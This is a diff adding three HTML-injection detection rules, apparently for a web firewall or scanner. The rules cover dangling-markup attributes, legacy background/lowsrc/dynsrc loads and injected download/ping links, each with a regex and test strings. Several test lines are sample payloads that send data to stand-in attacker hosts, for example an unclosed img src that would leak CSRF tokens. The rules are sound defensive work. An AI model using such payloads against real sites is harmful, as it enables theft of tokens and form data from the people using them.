@@ -284,3 +284,73 @@ test: /onload=
 pass: onload
 pass: filter[online]
 pass: utm_source=mail
+
+id: 300002401
+name: HTML injection: dangling markup, a URL attribute left open over the markup after it
+type: Cross Site Scripting (XSS)
+accuracy: high
+risk: medium
+# A quoted attribute that opens on a URL and is never closed before the next tag or the value's
+# end (`<img src="//evil?`, then the page's own markup): the browser sends everything up to the
+# next matching quote, CSRF tokens and form values included, to that host, without any script.
+# A URL attribute a page writes closes its quote before its next tag.
+targets: @values, header
+unless: binary
+literal: src
+literal: href
+literal: action
+literal: background
+literal: poster
+literal: data
+literal: ping
+literal: cite
+regex: <[a-z][\w:-]*\s[^>]*?\b(?:src|href|action|formaction|background|poster|data|ping|cite|codebase|lowsrc|dynsrc)\s*=\s*["']\s*(?:[a-z][\w+.-]*:)?//[^"'<>\r\n]{0,200}(?:<|$)
+test: <body background="//evil? <table background="//evil? <table>
+test: <img src='http://attacker.example/?x= <form><input name=csrf value=1>
+test: "><a href="//evil.example/log?<input type=hidden>
+test: <img src="//attacker.example/log?
+pass: <img src="//cdn.example/a.png"><p>caption</p>
+pass: <a href="https://example.com/?q=1">link</a> <b>bold</b>
+pass: a < b and src = "//x" > c
+
+id: 300002402
+name: HTML injection: legacy resource attributes loading from another host
+type: Cross Site Scripting (XSS)
+accuracy: medium
+risk: medium
+# `background`, `lowsrc` and `dynsrc` are attributes of obsolete HTML (table and body
+# backgrounds, Internet Explorer's low-resolution and video sources) that fetch a URL with no
+# script: injected markup uses them to call another host, and old browsers run `javascript:`
+# in them. Editors of today write backgrounds in CSS.
+targets: @values, header
+unless: binary
+literal: background
+literal: lowsrc
+literal: dynsrc
+regex: <[a-z][\w:-]*\s[^>]*?\b(?:background|lowsrc|dynsrc)\s*=\s*["'`]?\s*(?:[a-z][\w+.-]*:)?//
+test: <table background="//evil.example/x.png">
+test: <td background=http://evil.example/>
+test: <img lowsrc="//evil/a">
+pass: <table style="background: url(/img/bg.png)">
+pass: background=//cdn.example/a.png
+pass: <div class="background">//comment</div>
+
+id: 300002403
+name: HTML injection: a link that downloads or pings on a click
+type: Cross Site Scripting (XSS)
+accuracy: medium
+risk: medium
+# An injected `<a download>` makes a click save content of the attacker's choosing under the
+# site's name (a page saved as `invoice.html`, an executable), and `ping` reports each click
+# to another host: both act without script, so a filter for script misses them.
+targets: @values, header
+unless: binary
+literal: download
+literal: ping
+regex: <a\s[^>]*?\b(?:download|ping)\b\s*(?:=|>|/|\s[a-z])
+test: <a href=# download="filename.html">Test</a>
+test: <a href="/x" ping="//evil.example/track">click</a>
+test: <a download href=data:text/html,x>
+pass: <a href="/downloads/file.zip">download</a>
+pass: <a href="/ping">ping</a>
+pass: download <a> tag attribute reference
